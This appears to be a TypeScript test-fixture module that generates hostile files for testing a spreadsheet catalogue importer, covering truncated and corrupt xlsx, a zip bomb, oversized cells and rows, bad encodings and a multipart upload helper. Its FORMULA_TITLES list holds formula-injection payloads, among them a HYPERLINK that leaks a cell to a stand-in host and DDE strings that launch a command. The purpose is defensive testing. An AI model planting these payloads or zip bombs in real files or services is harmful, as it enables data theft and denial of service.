// A corpus of hostile files, generated for the tests: truncated and corrupt
// xlsx, an xlsx zip bomb, gigantic cells and rows, invalid UTF-8, GBK text,
// formula-injection payloads. Nothing is stored in the repository.
import JSZip from "jszip";
import { gb18030, HEADER, rows, xlsx } from "../api/catalogues-fixtures.ts";

/** A good catalogue xlsx of n rows. */
export const goodXlsx = (n = 20) => xlsx(HEADER, rows(n));

/** The first `fraction` of a file: what an interrupted download leaves. */
export const truncated = (buf: Buffer, fraction = 0.6) => buf.subarray(0, Math.floor(buf.length * fraction));

/** A real xlsx with a run of its compressed bytes overwritten. */
export function corrupted(buf: Buffer): Buffer {
  const out = Buffer.from(buf);
  for (let i = Math.floor(out.length * 0.3); i < Math.floor(out.length * 0.6); i += 7)
    out[i] = (out[i]! * 31 + 7) & 0xff;
  return out;
}

/** An xlsx whose worksheet unpacks to `megabytes` of XML: a zip bomb of a few kilobytes. */
export async function zipBombXlsx(megabytes: number): Promise<Buffer> {
  const zip = await JSZip.loadAsync(await goodXlsx(1));
  const sheet = Object.keys(zip.files).find((f) => /xl\/worksheets\/sheet\d+\.xml$/.test(f))!;
  const header = `<row r="1">${HEADER.map((h, i) => `<c r="${String.fromCharCode(65 + i)}1" t="inlineStr"><is><t>${h}</t></is></c>`).join("")}</row>`;
  const row = '<row r="9"><c r="A9" t="inlineStr"><is><t> </t></is></c></row>';
  const filler = row.repeat(Math.ceil((megabytes * 1024 * 1024) / row.length));
  zip.file(
    sheet,
    `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${header}${filler}</sheetData></worksheet>`,
  );
  return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } });
}

const csvLine = (cells: string[]) =>
  cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(",");
export const csv = (body: string[][], header = HEADER) =>
  `${[header, ...body].map(csvLine).join("\r\n")}\r\n`;

/** A CSV whose second data row holds one cell of `chars` characters. */
export function giganticCellCsv(chars: number): string {
  const body = rows(3);
  body[1]![2] = "档".repeat(chars);
  return csv(body);
}

/** A CSV whose third line is nothing but `n` commas: one row, n + 1 columns. */
export const giganticRowCsv = (n: number) =>
  `${csvLine(HEADER)}\r\n${csvLine(rows(1)[0]!)}\r\n${",".repeat(n)}\r\n`;

/** A UTF-8 CSV with bytes that are not UTF-8 in the middle (neither is it GB18030 throughout). */
export function invalidUtf8Csv(): Buffer {
  const text = Buffer.from(csv(rows(5)), "utf8");
  const at = text.indexOf(Buffer.from("2011年度第3号", "utf8"));
  return Buffer.concat([
    text.subarray(0, at),
    Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xfe]),
    text.subarray(at),
  ]);
}

/** A catalogue as Excel on Chinese Windows writes "CSV": GBK bytes. */
export const gbkCsv = (n = 5) => gb18030(csv(rows(n)));

/** Titles a spreadsheet would run as formulas if exported as they are. */
export const FORMULA_TITLES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
];

/** A multipart upload of raw bytes in field "file" (for inject). */
export function multipart(content: Buffer | string, filename: string) {
  const boundary = `----hostile${Math.random().toString(16).slice(2)}`;
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    Buffer.isBuffer(content) ? content : Buffer.from(content),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { "content-type": `multipart/form-data; boundary=${boundary}` } };
}
